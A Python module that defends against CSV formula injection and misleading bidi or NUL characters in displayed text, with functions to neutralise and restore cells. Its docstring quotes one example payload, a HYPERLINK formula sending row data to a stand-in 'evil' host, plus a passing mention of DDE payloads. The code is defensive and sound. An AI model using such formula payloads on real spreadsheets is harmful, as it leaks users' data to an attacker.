"""Text that is safe to export and to display: CSV cells that are never formulas, visible strings.

**CSV injection.** A spreadsheet opening a CSV runs any cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the row; DDE payloads run
programs), and a leading tab or carriage return hides such a start from naive checks. Captions,
account names, alt texts and coders' memos are written by strangers, so every CSV visframe writes
goes through `to_csv_safe`, which follows OWASP's guidance: a text cell starting with one of
``= + - @ \\t \\r`` gets a single quote in front (``'=1+1`` shows as the text ``=1+1``; the CSV
writer already quotes separators and double quotes; a file with a carriage return inside a cell
has every text field quoted, so no row splits). Numbers stay numbers (a negative *number*
is not touched, only text that starts with ``-``), column names are treated like cells. The data
itself (Parquet, the database) keeps the original text; only the CSV rendering changes, so read a
neutralised column back with `unneutralise` if you need the exact text. The .xlsx writers are
safe without this (they store every text cell as a literal string).

**Visible text.** `visible_text` removes what makes displayed text lie: NUL bytes (they cut strings
in C-based viewers and logs) and *unpaired* Unicode bidi embedding/override/isolate controls
(U+202A–U+202E, U+2066–U+2069). An unterminated U+202E (right-to-left override) reverses
everything after it on the page ("gpj.exe" shown for "exe.jpg"); a properly closed pair inside one
line, as right-to-left scripts use, is kept. Call it where text is shown (report.html, the review
app's coder and code names), not where it is stored.

API (stable)::

    CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\\t", "\\r")
    neutralise_cell(value) -> value          # "'" + text when it starts like a formula
    neutralise_frame(frame) -> DataFrame     # a copy with every text cell (and header) neutralised
    to_csv_safe(frame, path=None, **to_csv_kwargs) -> str | None   # like DataFrame.to_csv, index=False
    unneutralise(value) -> value             # the inverse, for reading such a CSV back
    visible_text(text) -> str                # NUL and unpaired bidi controls removed ("" for None)
"""

from __future__ import annotations

import csv
import math
from pathlib import Path
from typing import Any

import pandas as pd

CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"

# Bidi controls: embeddings/overrides are closed by PDF, isolates by PDI (Unicode UAX #9).
_EMBEDDING_OPENERS = frozenset("\u202a\u202b\u202d\u202e")  # LRE RLE LRO RLO
_PDF = "\u202c"
_ISOLATE_OPENERS = frozenset("\u2066\u2067\u2068")  # LRI RLI FSI
_PDI = "\u2069"
_BIDI = _EMBEDDING_OPENERS | _ISOLATE_OPENERS | {_PDF, _PDI}
# Paragraph separators end every embedding and isolate (UAX #9, rule X8).
_PARAGRAPH_ENDS = frozenset("\n\r\x1c\x1d\x1e\x85\u2029")


def neutralise_cell(value: Any) -> Any:
    """`value` with a single quote in front when it is text that a spreadsheet would run.

    Text holding surrogate escapes (a non-UTF-8 file name) is written with those bytes shown as
    `\\xNN`, as visframe stores such paths everywhere: a UTF-8 file cannot hold them as they are."""
    if not isinstance(value, str):
        return value
    if not value.isascii():
        value = value.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")
    if value.startswith(CSV_FORMULA_STARTS):
        return _QUOTE + value
    return value


def unneutralise(value: Any) -> Any:
    """The text `neutralise_cell` was given (for a neutralised cell read back from a CSV)."""
    if isinstance(value, str) and value.startswith(_QUOTE) and value[1:].startswith(CSV_FORMULA_STARTS):
        return value[1:]
    return value


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return (
        dtype == object
        or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))
        or pd.api.types.is_string_dtype(dtype)
    )


def _neutralise_series(series: pd.Series) -> pd.Series:
    if isinstance(series.dtype, pd.CategoricalDtype):
        series = series.astype(object)
    # Built as a list, not Series.map: pandas 3 would infer its Arrow string dtype for the result
    # before the cells are escaped, and refuse a non-UTF-8 file name.
    mapped = pd.Series([neutralise_cell(v) for v in series], index=series.index, dtype=object)
    return mapped.astype(series.dtype) if isinstance(series.dtype, pd.StringDtype) else mapped


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells, column names and text index can't start a formula."""
    out = frame.copy()
    for position, column in enumerate(out.columns):
        if _is_text_column(out.iloc[:, position]):
            out.isetitem(position, _neutralise_series(out.iloc[:, position]))
    out.columns = [neutralise_cell(c) for c in out.columns]
    if _is_text_column(out.index.to_series()):
        out.index = out.index.map(neutralise_cell)
    return out


def to_csv_safe(frame: pd.DataFrame, path: str | Path | None = None, **kwargs: Any) -> str | None:
    """`frame.to_csv(path, **kwargs)` with every text cell neutralised (index=False unless given).

    Returns the CSV text when `path` is None, like pandas. UTF-8 unless `encoding` says otherwise.
    """
    kwargs.setdefault("index", False)
    if path is not None:
        kwargs.setdefault("encoding", "utf-8")
    safe = neutralise_frame(frame)
    if "quoting" not in kwargs and _has_carriage_return(safe):
        # Python's csv writer (3.11) leaves a field with a bare CR unquoted when lines end in
        # "\n", and a spreadsheet then splits the row there: quote every text field instead.
        kwargs["quoting"] = csv.QUOTE_NONNUMERIC
    return safe.to_csv(path, **kwargs)


def _has_carriage_return(frame: pd.DataFrame) -> bool:
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if _is_text_column(column) and any(isinstance(v, str) and "\r" in v for v in column):
            return True
    return False


def visible_text(text: Any) -> str:
    """`text` for display: NUL bytes and bidi controls without their partner removed."""
    if text is None or text is pd.NA or (isinstance(text, float) and math.isnan(text)):
        return ""
    text = str(text)
    if "\x00" in text:
        text = text.replace("\x00", "")
    if not any(ch in _BIDI for ch in text):
        return text
    drop: set[int] = set()
    stack: list[int] = []  # positions of open embeddings/overrides/isolates, innermost last
    for i, ch in enumerate(text):
        if ch in _EMBEDDING_OPENERS or ch in _ISOLATE_OPENERS:
            stack.append(i)
        elif ch == _PDF:
            if stack and text[stack[-1]] in _EMBEDDING_OPENERS:
                stack.pop()
            else:
                drop.add(i)
        elif ch == _PDI:
            isolate = next(
                (k for k in range(len(stack) - 1, -1, -1) if text[stack[k]] in _ISOLATE_OPENERS), None
            )
            if isolate is None:
                drop.add(i)
            else:  # a PDI also closes the embeddings opened inside its isolate: those were unpaired
                drop.update(stack[isolate + 1 :])
                del stack[isolate:]
        elif ch in _PARAGRAPH_ENDS:
            drop.update(stack)
            stack.clear()
    drop.update(stack)
    return "".join(ch for i, ch in enumerate(text) if i not in drop)


def list_to_text(value: Any) -> Any:
    """A list cell (hashtags) as one space-separated text cell."""
    if isinstance(value, (list, tuple)) or (hasattr(value, "tolist") and not isinstance(value, str)):
        items = value.tolist() if hasattr(value, "tolist") else value
        return " ".join(str(v) for v in items if v is not None)
    return value


def safe_csv_bytes(frame: pd.DataFrame) -> bytes:
    """UTF-8 CSV of `frame` with list cells joined and formula-like text cells neutralised."""
    out = frame.copy()
    for position in range(out.shape[1]):
        series = out.iloc[:, position]
        if _is_text_column(series):
            out.isetitem(
                position, pd.Series([list_to_text(v) for v in series], index=series.index, dtype=object)
            )
    return to_csv_safe(out, None, date_format="%Y-%m-%dT%H:%M:%SZ").encode("utf-8")
